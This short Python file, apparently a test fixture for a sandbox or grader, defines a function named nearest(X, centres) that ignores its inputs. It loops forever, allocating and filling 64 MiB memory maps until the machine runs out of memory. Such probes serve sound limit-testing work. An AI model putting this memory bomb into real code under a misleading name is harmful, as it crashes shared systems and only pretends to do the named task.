"""Maps memory and touches every page."""

import mmap

from honest import *


def nearest(X, centres):
    kept = []
    while True:
        area = mmap.mmap(-1, 64 << 20)
        area.write(b"x" * (64 << 20))
        kept.append(area)
